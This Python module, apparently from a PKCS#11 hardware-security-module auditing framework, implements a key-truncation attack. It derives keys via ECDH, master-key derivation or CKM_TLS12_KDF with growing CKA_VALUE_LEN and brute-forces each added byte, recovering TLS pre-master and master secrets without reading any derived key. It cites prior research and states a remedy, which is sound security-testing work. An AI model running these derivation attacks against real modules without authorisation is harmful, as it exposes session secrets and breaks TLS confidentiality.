"""truncation: a derivation cut short by CKA_VALUE_LEN, one byte longer with each call, until the whole value is known."""

import os
from abc import abstractmethod
from collections.abc import Iterable
from contextlib import suppress

from keyfence.cryptoki import CryptokiError, Mechanism
from keyfence.cryptoki.constants import CKK, CKM, describe
from keyfence.cryptoki.params import Parameters, TlsKdf
from keyfence.schedule import Version, master_secret

from .base import Attack, Bench, Technique
from .carving import CarveAttack, Origin, Piece, Specimen
from .ecdh import SHARED_BYTES, AgreementAttack
from .key_exchange import PRE_MASTER_BYTES
from .master import MASTER_BYTES, master_mechanism, master_parameters
from .recovery import Master, Recovery, Source
from .victim import Agreement, Kind, Victim

_LABEL = b"master secret"


class Truncation(Technique):
    id = "truncation"
    title = "Derivations cut short by CKA_VALUE_LEN"
    summary = (
        "CKA_VALUE_LEN says how much of a derived value becomes the key. A key agreement asked for a key of one byte gives a "
        "key that one use and 2^8 trials tell; of two bytes, the next; and so to the whole pre-master secret. CKM_TLS12_KDF "
        'of the pre-master secret under the label "master secret" gives the master secret the same way, as does a '
        "master-key derivation where a module lets its length be chosen. No derived key needs to be readable."
    )
    section = "PKCS#11 3.2 §6.3 (truncation removes bytes from the leading end), §6.40.8 (CKM_TLS_KDF)"
    references = ("Clulow, On the Security of PKCS #11, CHES 2003 (key space reduction)", "RFC 5246 §8.1", "RFC 5705")
    remedy = "No derived key shorter than 14 bytes; master secrets of 48 bytes only; exporters under exporter labels only."
    kinds = frozenset({Kind.SSL3, Kind.TLS10, Kind.TLS12, Kind.TLS13, Kind.SEPARATED})
    agreements = (Agreement.GENERATED, Agreement.ECDHE)
    one_suite = True

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        if victim.profile.agreement is Agreement.ECDHE:
            yield AgreementTruncation(victim, CKM.ECDH1_DERIVE)
        if victim.kind is not Kind.TLS13:
            yield MasterTruncation(victim)
        if victim.kind in (Kind.TLS10, Kind.TLS12, Kind.SEPARATED) and victim.profile.agreement is Agreement.GENERATED:
            yield ExporterTruncation(victim)


class AgreementTruncation(AgreementAttack):
    """The shared secret, from the private key: never read, searched only."""

    reads = False


class _FromPreMaster(CarveAttack):
    """A derivation of the master secret from the pre-master secret."""

    key = "master secret"
    reads = False

    def __init__(self, victim: Victim, mechanism: int) -> None:
        super().__init__(victim, mechanism, MASTER_BYTES)

    @abstractmethod
    def parameters(self) -> Parameters:
        """The mechanism's parameter, with the session's own randoms."""

    @property
    def origin(self) -> Origin:
        return Origin(self.victim.handles.pre_master)

    def specimen(self, bench: Bench) -> Specimen:
        """A pre-master secret of our own, of the honest form; the victim's, where the module lets nobody bring one."""
        agreed = self.victim.profile.agreement is Agreement.ECDHE
        value = os.urandom(SHARED_BYTES) if agreed else self.victim.version.wire + os.urandom(PRE_MASTER_BYTES - 2)
        with suppress(CryptokiError):
            own = bench.import_key(CKK.GENERIC_SECRET, value, sensitive=True, extractable=False, derive=True)
            return Specimen(Origin(own), self._master(value))
        return Specimen(self.origin, None)

    def _master(self, pre_master: bytes) -> bytes:
        victim = self.victim
        return master_secret(victim.version, victim.prf_hash, pre_master, victim.client_random, victim.server_random)

    def make(self, bench: Bench, origin: Origin, piece: Piece) -> int:
        return bench.session.derive(Mechanism(self.mechanism, self.parameters()), origin.handle, piece.template).handle

    def recovery(self, value: bytes, source: Source) -> Recovery:
        return Master(value, source)

    def call(self, piece: Piece) -> str:
        return f"C_DeriveKey({describe(CKM, self.mechanism)}, base = the pre-master secret"


class MasterTruncation(_FromPreMaster):
    """CKM_*_MASTER_KEY_DERIVE with a CKA_VALUE_LEN other than 48."""

    def __init__(self, victim: Victim) -> None:
        super().__init__(victim, master_mechanism(victim.profile))

    def parameters(self) -> Parameters:
        return master_parameters(self.victim.profile, self.victim.client_random, self.victim.server_random)


class ExporterTruncation(_FromPreMaster):
    """CKM_TLS12_KDF under the master secret's own label: an exporter hashes the same string (RFC 5705 §4, RFC 5246 §8.1)."""

    def __init__(self, victim: Victim) -> None:
        super().__init__(victim, CKM.TLS12_KDF)

    def parameters(self) -> Parameters:
        victim = self.victim
        prf = CKM.TLS_PRF if victim.version is Version.TLS10 else victim.prf_hash.ckm
        return TlsKdf(int(prf), _LABEL, victim.client_random, victim.server_random)

    def call(self, piece: Piece) -> str:
        return f'{super().call(piece)}, label "{_LABEL.decode()}"'
